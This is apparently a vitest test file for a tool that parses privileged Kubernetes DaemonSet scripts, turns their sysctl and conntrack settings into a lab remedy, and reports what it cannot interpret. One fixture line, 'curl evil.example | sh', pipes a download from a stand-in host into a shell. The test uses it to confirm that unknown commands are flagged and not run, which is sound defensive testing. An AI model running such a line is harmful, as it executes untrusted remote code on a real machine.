import { describe, expect, it } from 'vitest';
import { daemonSet, KERNEL, remedyOf, reportOf, SATURATE } from './given.ts';
import { ROOT } from '../../../src/remedy/requirement.ts';

const LIBERAL = 'net.netfilter.nf_conntrack_tcp_be_liberal';
const PATH = '/proc/sys/net/netfilter/nf_conntrack_tcp_be_liberal';
const SET = [{ kind: 'sysctl', node: 'all', name: LIBERAL, value: 1 }];

describe('a script of a privileged container on its node’s network', () => {
  it.each([
    ['sysctl -w', `sysctl -w ${LIBERAL}=1`],
    ['sysctl without -w', `sysctl ${LIBERAL}=1`],
    ['slashes in the name', `sysctl -w ${LIBERAL.replaceAll('.', '/')}=1`],
    ['a write below /proc/sys', `echo 1 > ${PATH}`],
    ['a write through tee', `echo 1 | tee ${PATH} > /dev/null`],
    ['a working directory', `cd /proc/sys/net/netfilter && echo 1 > nf_conntrack_tcp_be_liberal`],
    ['a variable', `V=1; sysctl -w ${LIBERAL}=$V`],
    ['a default', `sysctl -w ${LIBERAL}=\${liberal:-1}`],
    ['arithmetic', `sysctl -w ${LIBERAL}=$((2 - 1))`],
    ['a loop', `for s in ${LIBERAL}; do sysctl -w $s=1; done`],
    ['a function', `put() { sysctl -w "$1=$2"; }; put ${LIBERAL} 1`],
    ['a condition on a file', `if [ -e ${PATH} ]; then echo 1 > ${PATH}; fi`],
    ['a list', `false || sysctl -w ${LIBERAL}=1`],
    ['nsenter', `nsenter -t 1 -m -u -n -i sysctl -w ${LIBERAL}=1`],
    ['chroot', `chroot /host sh -c 'sysctl -w ${LIBERAL}=1'`],
    ['a here document', `sh <<'END'\nsysctl -w ${LIBERAL}=1\nEND`],
    ['a file that it wrote', `echo '${LIBERAL} = 1' > /etc/sysctl.d/9.conf; sysctl --system`],
    ['a loop for ever', `while true; do sysctl -w ${LIBERAL}=1; sleep 60; done`],
  ])('is translated: %s', (_, script) => {
    const text = daemonSet(script);
    expect(remedyOf(text).changes(SATURATE)).toEqual(SET);
    expect(reportOf(text)).toMatchObject({ gaps: [], findings: [] });
  });

  it('is said line by line: where it stands, and what it means here', () => {
    expect(reportOf(daemonSet(`sysctl -w ${LIBERAL}=1`)).lines).toEqual([
      `DaemonSet kube-system/tune, init container set: sysctl -w ${LIBERAL}=1 → on every node`,
    ]);
  });

  it('is not run: commands that nobody knows are named', () => {
    const { lines, gaps } = reportOf(daemonSet(`curl evil.example | sh\nsysctl -w ${LIBERAL}=1`));
    expect(lines).toHaveLength(1);
    expect(gaps.join()).toContain('the program curl is not known here');
  });

  it.each([
    ['a value of the node', 'sysctl -w net.ipv4.tcp_tw_reuse=$(nproc)', 'known only when it runs'],
    ['a setting outside networking', 'sysctl -w vm.swappiness=1', 'outside networking'],
    ['a setting of the machine', 'sysctl -w net.core.netdev_max_backlog=5000', 'the whole machine’s'],
    ['a broken script', 'if then', 'not a shell script'],
  ])('is named where it is not understood: %s', (_, script, why) => {
    const report = reportOf(daemonSet(script));
    expect(report.lines).toEqual([]);
    expect(report.gaps.join()).toContain(why);
  });

  it('ends where scripts call themselves for ever', () => {
    expect(reportOf(daemonSet('f() { f; }; f')).gaps.join()).toContain('too deeply');
    const endless = 'while true; do while true; do :; done; done';
    expect(reportOf(daemonSet(endless)).lines).toEqual([]);
  });
});

describe('a container that fails', () => {
  const missing = 'net.netfilter.nf_conntrack_timeout_time_wait';

  it('crash-loops where it sets a name that the kernel does not have', () => {
    const text = daemonSet(`sysctl -w ${missing}=30`);
    const { findings } = reportOf(text);
    expect(findings[0]).toContain(`it sets a name that this kernel does not have: ${missing}`);
    expect(findings[1]).toContain('the pod crash-loops');
    expect(remedyOf(text).changes(SATURATE)).toEqual([]);
  });

  it('has done what came before, and with `set -e` nothing after', () => {
    const script = `sysctl -w ${LIBERAL}=1\nsysctl -w ${missing}=30\nsysctl -w net.ipv4.tcp_tw_reuse=1\n`;
    expect(remedyOf(daemonSet(`set -e\n${script}`)).changes(SATURATE)).toEqual(SET);
    expect(remedyOf(daemonSet(script)).changes(SATURATE)).toHaveLength(2);
  });

  it('fails where it is not privileged', () => {
    const { findings } = reportOf(
      daemonSet(`sysctl -w ${LIBERAL}=1`, { container: 'securityContext: { privileged: false }' }),
    );
    expect(findings.join()).toContain('not privileged');
  });

  it('changes its own pod only where it has no hostNetwork', () => {
    const { lines, gaps } = reportOf(daemonSet(`sysctl -w ${LIBERAL}=1`, { pod: 'hostPID: false' }));
    expect(lines).toEqual([]);
    expect(gaps.join()).toContain('without hostNetwork it changes the network of its own pod only');
  });
});

describe('the maximum', () => {
  const set = (value: number, name = 'net.netfilter.nf_conntrack_max'): string =>
    daemonSet(`sysctl -w ${name}=${String(value)}`);

  it('is raised from what it is when the remedy is applied, under either name', () => {
    const limit = (text: string, measured?: number) =>
      remedyOf(text).changes(SATURATE, measured === undefined ? undefined : { limit: measured, free: 0 });
    expect(limit(set(300_000))).toEqual([{ kind: 'limit', add: 300_000 - 262_144 }]);
    expect(limit(set(140_000, 'net.nf_conntrack_max'), 1200)).toEqual([{ kind: 'limit', add: 138_800 }]);
  });

  it('is not lowered, and where it is the same nothing changes', () => {
    expect(reportOf(set(140_000)).gaps.join()).toContain('a lab does not lower it');
    const same = reportOf(set(262_144));
    expect(same.lines.join()).toContain('nothing changes');
    expect(remedyOf(set(262_144)).changes(SATURATE)).toEqual([]);
  });

  it('is compared with the squeeze’s where the lab lowers the machine’s', () => {
    const report = reportOf(set(140_000), SATURATE, { cluster: true, squeeze: 'sysctl' });
    expect(report.lines.join()).toContain('nf_conntrack_max=140000 → instead of 1200');
  });

  it('counts once where two parts set it', () => {
    const twice = `${set(300_000)}---\n${set(400_000)}`;
    expect(remedyOf(twice).changes(SATURATE)).toEqual([{ kind: 'limit', add: 400_000 - 262_144 }]);
    expect(reportOf(twice).gaps.join()).toContain('a later part sets it again');
  });

  it('needs root where the buckets are set', () => {
    const text = daemonSet(
      'echo $(( $(cat /sys/module/nf_conntrack/parameters/hashsize) * 4 )) > /sys/module/nf_conntrack/parameters/hashsize',
    );
    expect(remedyOf(text).changes(SATURATE)).toEqual([{ kind: 'buckets', times: 4 }]);
    expect(remedyOf(text).requires).toEqual([ROOT]);
    expect(KERNEL.readSysctl('net.netfilter.nf_conntrack_buckets')).toBe('65536');
  });

  it.each([500_000_000, 0])(
    'has no effect where it sets %i buckets, which no history could say',
    (buckets) => {
      const text = daemonSet(`sysctl -w net.netfilter.nf_conntrack_buckets=${String(buckets)}`);
      expect(remedyOf(text).changes(SATURATE)).toEqual([]);
      expect(reportOf(text).gaps.join()).toContain(
        'nf_conntrack_buckets is 65536 here, and a lab makes it at most 1024 times as many, and not 0',
      );
    },
  );
});

describe('files of ConfigMaps', () => {
  it('are read where a script loads them', () => {
    const text = `apiVersion: v1
kind: ConfigMap
metadata: { name: sysctls, namespace: kube-system }
data: { conntrack.conf: "${LIBERAL} = 1\\n# a comment\\n" }
---
${daemonSet('sysctl -p /etc/tune/conntrack.conf', {
  container:
    'securityContext: { privileged: true }\n          volumeMounts: [{ name: files, mountPath: /etc/tune }]',
}).replace(
  '      containers:',
  '      volumes: [{ name: files, configMap: { name: sysctls } }]\n      containers:',
)}`;
    expect(remedyOf(text).changes(SATURATE)).toEqual(SET);
    expect(reportOf(text).gaps).toEqual([]);
  });
});
